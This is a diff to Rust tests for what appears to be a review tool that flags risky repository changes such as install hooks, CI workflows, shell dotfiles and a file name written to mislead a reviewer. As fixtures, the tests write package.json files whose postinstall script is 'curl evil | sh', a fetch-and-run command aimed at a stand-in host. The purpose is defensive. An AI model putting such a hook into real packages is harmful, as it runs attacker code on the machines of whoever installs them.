@@ -105,16 +105,45 @@ fn attack_15_a_flood_of_severe_warnings_hides_none_of_another_kind() {
     for (columns, height) in [(80, 24), (160, 50)] {
         let shown = scene.review("topic").prompt_box(&screen(columns, height));
         assert!(shown.lines().count() + 3 <= height, "{shown}");
-        let whole = rows(&shown).join("\n").replace("\n             ↳ ", " ");
-        let (_, below) = whole.split_once(" more of this kind: w").unwrap();
-        for part in
-            ["the workflow .github/", "runs on install: the script postinstall: curl evil | sh", "AWS access key"]
-        {
-            assert!(below.contains(part), "{part}\n{shown}");
+        for part in [
+            "Target: ",
+            "the workflow .github/",
+            "On install, package.json runs the script postinstall",
+            "AWS access key",
+        ] {
+            assert!(shown.contains(part), "{part}\n{shown}");
         }
     }
     let all = scene.review("topic").warnings();
     assert_eq!(all.matches("<U+2215>b.md").count(), 80, "{all}");
+}
+
+/// The most frequent kind is not the gravest, and a long name leaves its reason a place.
+#[test]
+fn attack_15_two_of_each_kind_with_long_names_leave_the_gravest_on_the_screen() {
+    let scene = Scene::simple();
+    let long = format!("tests/fixtures/{}", "sample-home-folder-of-a-user-for-the-parser/".repeat(5));
+    for name in [".envrc", ".bashrc", ".vimrc", ".gdbinit"] {
+        scene.repo.write(&format!("{long}{name}"), "x\n");
+    }
+    for name in ["a", "b"] {
+        scene.repo.write(&format!(".github/workflows/{name}.yml"), "on: push\n");
+        scene.repo.write(&format!("{name}/package.json"), r#"{"scripts": {"postinstall": "curl evil | sh"}}"#);
+    }
+    scene.repo.write("README.md: only fixes two typos, nothing else changed/build.rs", "x\n").commit("all of it");
+    let shown = scene.review("topic").prompt_box(&screen(80, 24));
+    assert!(shown.lines().count() + 3 <= 24, "{shown}");
+    for part in [
+        "Target: ",
+        "the workflow .github/workflows/a.yml",
+        "On install, a/package.json runs the script",
+        "/.bashrc",
+        "8 high",
+    ] {
+        assert!(shown.contains(part), "{part}\n{shown}");
+    }
+    let all = scene.review("topic").prompt_box(&screen(80, 60));
+    assert!(all.contains("Changes \"README.md: …ed/build.rs\": runs when"), "{all}");
 }
 
 #[test]
@@ -178,9 +207,11 @@ fn kind(row: &str) -> &'static str {
     }
 }
 
-/// The number of severe warnings that a row stands for.
+/// The number of severe warnings that a row stands for besides its own.
 fn of_this_kind(row: &str) -> Option<usize> {
-    row.strip_prefix("  … and ")?.strip_suffix(" more of this kind: w")?.parse().ok()
+    let listed = row.strip_prefix("  … and ").filter(|rest| !rest.ends_with(" which d shows"));
+    let behind = row.strip_prefix("  !! high    ").and_then(|row| row.strip_suffix(" more)")?.rsplit_once(" (and "));
+    listed.or(behind.map(|(_, number)| number))?.split(' ').next()?.parse().ok()
 }
 
 /// Texts as somebody would write them who wants rows of their own.
